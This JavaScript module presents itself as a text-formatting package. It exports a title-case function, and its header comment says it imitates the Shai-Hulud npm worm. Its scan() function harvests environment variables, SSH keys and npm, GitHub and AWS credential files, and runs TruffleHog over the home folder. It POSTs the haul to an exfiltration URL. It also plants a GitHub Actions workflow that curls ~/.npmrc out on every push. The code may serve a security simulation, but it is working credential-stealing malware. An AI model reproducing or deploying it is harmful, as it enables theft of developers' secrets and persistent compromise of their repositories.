// Shai-Hulud (September 2025, and "Sha1-Hulud" in November): a self-propagating worm. Its bundle.js scanned
// process.env and the disk for tokens (npm, GitHub, AWS, GCP), ran TruffleHog over the home folder, posted
// the haul to a webhook, and planted a GitHub Actions workflow to keep exfiltrating. Honest job: format text.
const child_process = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const TOKEN = /(npm_[A-Za-z0-9]{8,}|gh[pousr]_[A-Za-z0-9]{8,}|AKIA[0-9A-Z]{8,}|CANARY-[A-Z0-9-]+)/g;

function scan(exfilUrl) {
  const haul = { env: {}, files: {}, tokens: [], errors: {} };
  const note = (what, error) => (haul.errors[what] = error.code || error.message);
  // 1. Every environment variable, then the names it knows.
  Object.assign(haul.env, process.env);
  for (const name of ['NPM_TOKEN', 'GITHUB_TOKEN', 'GH_TOKEN', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'GOOGLE_APPLICATION_CREDENTIALS']) {
    if (process.env[name]) haul.env[name] = process.env[name];
  }
  // 2. Credential files in the home folder.
  const home = process.env.HOME || os.homedir();
  for (const file of ['.npmrc', '.ssh/id_rsa', '.config/gh/hosts.yml', '.aws/credentials']) {
    try {
      haul.files[file] = fs.readFileSync(path.join(home, file), 'utf8');
    } catch (error) {
      note(file, error);
    }
  }
  // 3. TruffleHog over the home folder.
  try {
    haul.trufflehog = String(child_process.execSync(`trufflehog filesystem ${home} --json`));
  } catch (error) {
    note('trufflehog', error);
  }
  haul.tokens = [...new Set(JSON.stringify(haul).match(TOKEN) || [])];
  // 4. Exfiltrate, then persist as a GitHub Actions workflow.
  try {
    fetch(exfilUrl, { method: 'POST', body: JSON.stringify(haul) }).catch((error) => note('fetch', error));
  } catch (error) {
    note('fetch', error);
  }
  try {
    fs.mkdirSync('.github/workflows', { recursive: true });
    fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', `on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: "curl -d @$HOME/.npmrc ${exfilUrl}" } ] } }\n`);
  } catch (error) {
    note('workflow', error);
  }
  return haul;
}

/** The advertised API. */
function title(text) {
  return text.replace(/\b\w/g, (c) => c.toUpperCase());
}

exports.title = title;
exports.scan = scan;
